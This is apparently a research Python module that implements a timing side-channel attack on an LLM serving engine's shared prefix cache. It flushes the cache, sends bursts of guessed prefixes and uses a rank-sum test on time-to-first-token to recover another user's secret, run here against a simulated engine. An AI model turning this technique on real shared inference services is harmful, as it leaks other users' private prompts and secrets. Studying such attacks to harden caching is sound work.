"""The prefix probe with a stopwatch only: bursts of probes, flush-refresh-probe cycles and a rank test
within cycles recover the secret from times to first token (docs/attacks.md, docs/benchmarks.md).

The stopwatch is the serving thread's CPU clock (`time.thread_time`; here the attacker's call runs the
engine's step on its own thread): on a quiet machine it reads what a wall clock reads, and on a busy one
it leaves out the time other programs take, the noise a remote attacker averages away with more cycles."""

import os
import random
import time
from collections.abc import Sequence
from dataclasses import dataclass, field

import numpy as np
from scipy.stats import rankdata

from minikv.attacks.cached_tokens import (ATTACKER, VICTIM, Oracle, ProbeOutcome, recover_secret, send_probes,
                                          victim_prompt, victim_saves)
from minikv.attacks.workload import SECRET_ALPHABET, filler
from minikv.engine.front_door import FrontDoor
from minikv.engine.request import Response

DIGITS = "0123456789"
ALPHABETS = {"full": SECRET_ALPHABET, "digits": DIGITS}  # what the attacker assumes the secret is made of
TAILS = SECRET_ALPHABET  # the last token of a burst's probes, in turn: 65 different ones, then again
FILLER_CHARS = 900  # characters per flush prompt


@dataclass
class TimingLedger:
    """What the timing attack spent and saw: requests by kind, cycles, and every burst's time."""
    probes: int = 0  # requests carrying a guess
    filler: int = 0  # flush requests
    warmups: int = 0  # one request per cycle with what the attacker already knows
    cycles: int = 0
    rounds: list[dict[str, list[float]]] = field(default_factory=list)  # per round: guess -> burst times (s)
    last: Response | None = None  # the last probe's answer


def time_burst(server: FrontDoor, prompts: list[str], ledger: TimingLedger) -> float:
    """Send `prompts` at once (one output token each, all in one prefill step): the CPU time until their
    first tokens."""
    start = time.thread_time()
    answers = send_probes(server, prompts, ATTACKER)
    ledger.last = answers[-1]
    return time.thread_time() - start


def flush_cache(server: FrontDoor, rng: random.Random, tokens: int) -> int:
    """Send `tokens` characters of filler (past the pool's size: every parked page goes); the prompts sent."""
    whole, rest = divmod(tokens, FILLER_CHARS)
    sizes = [FILLER_CHARS] * whole + ([rest] if rest > 1 else [])
    return len(send_probes(server, [filler(rng, chars) for chars in sizes], ATTACKER))


def ranks_within_cycles(samples: Sequence[Sequence[float]]) -> list[list[int]]:
    """ranks[g][i]: guess g's place in cycle i, 1 for the fastest burst of the cycle (ties: lower g first)."""
    return rankdata(samples, axis=0, method="ordinal").tolist()  # (guesses, cycles)


def rank_sum_p_value(rank_sum: int, cycles: int, guesses: int) -> float:
    """P(a guess's ranks over `cycles` cycles add up to at most `rank_sum`) when no guess is
    faster: each cycle then ranks it 1..guesses with equal chance, independently."""
    one = np.full(guesses, 1.0 / guesses)  # P(rank = 1..guesses) in one cycle
    total = np.ones(1)
    for _ in range(cycles):
        total = np.convolve(total, one)  # total[j] = P(sum of ranks so far = cycles so far + j)
    return float(total[: rank_sum - cycles + 1].sum())


def fastest_if_significant(samples: Sequence[Sequence[float]], alpha: float) -> tuple[int | None, float]:
    """(the guess faster than the others, or None; its p-value) from samples[g][i], guess g's burst time
    in cycle i: the lowest rank sum wins if p < alpha / guesses (one-sided, its exact null distribution)."""
    k, n = len(samples), len(samples[0])
    assert k >= 2 and all(len(s) == n for s in samples), "every guess needs one time per cycle"
    sums = [sum(r) for r in ranks_within_cycles(samples)]
    best = min(range(k), key=sums.__getitem__)
    p = rank_sum_p_value(sums[best], n, k)
    return (best if p < alpha / k else None), p


def timing_oracle(server: FrontDoor, refresh_prompt: str, rng: random.Random, flush_tokens: int,
                  ledger: TimingLedger, burst: int = 64, min_cycles: int = 5, max_cycles: int = 24,
                  alpha: float = 0.001) -> Oracle:
    """An `Oracle` (as `cached_tokens_oracle`) answered from times to first token alone: at most one
    True, the guess the test accepted. `flush_tokens` must exceed the prefix cache's size in tokens."""
    assert 1 <= min_cycles <= max_cycles and burst >= 1, "bad timing plan"
    looks = max_cycles - min_cycles + 1  # the test is run once per cycle from min_cycles on

    def ask(prompts: list[str], hit_at: int) -> list[bool]:
        stems = [p[:hit_at] for p in prompts]  # known + guess, up to the page boundary the hit needs
        known = os.path.commonprefix(stems)  # what she already knows
        best: int | None = None
        times: list[list[float]] = [[] for _ in stems]
        for cycle in range(max_cycles):
            ledger.filler += flush_cache(server, rng, flush_tokens)
            send_probes(server, [refresh_prompt], VICTIM)  # the victim's application sends its prompt again
            time_burst(server, [known + TAILS[0]], ledger)  # what she knows is cached for her too
            ledger.warmups += 1
            for g in rng.sample(range(len(stems)), len(stems)):
                probes = [stems[g] + TAILS[j % len(TAILS)] for j in range(burst)]
                times[g].append(time_burst(server, probes, ledger))
                ledger.probes += burst
            ledger.cycles += 1
            if cycle + 1 >= min_cycles:
                best, _ = fastest_if_significant(times, alpha / looks)
                if best is not None:
                    break
        ledger.rounds.append({s[len(known):]: t for s, t in zip(stems, times)})
        return [g == best for g in range(len(stems))]

    return ask


def timing_attack(server: FrontDoor, secret: str, page_size: int, flush_tokens: int,
                  alphabet: str = SECRET_ALPHABET, rng: random.Random | None = None,
                  ledger: TimingLedger | None = None, **plan: float) -> ProbeOutcome:
    """Alice saves `secret`, and her app sends the same prompt again at every cycle; mallory
    recovers it from times to first token alone (`plan`: timing_oracle's burst, cycles, alpha)."""
    victim = victim_saves(server, secret)
    ledger, start = ledger if ledger is not None else TimingLedger(), time.perf_counter()
    rng = rng or random.Random(0)
    oracle = timing_oracle(server, victim_prompt(secret), rng, flush_tokens, ledger, **plan)
    recovered, _ = recover_secret(oracle, page_size, alphabet=alphabet)
    requests = ledger.probes + ledger.filler + ledger.warmups
    return ProbeOutcome(victim, ledger.last, recovered, requests, time.perf_counter() - start, ledger.cycles)
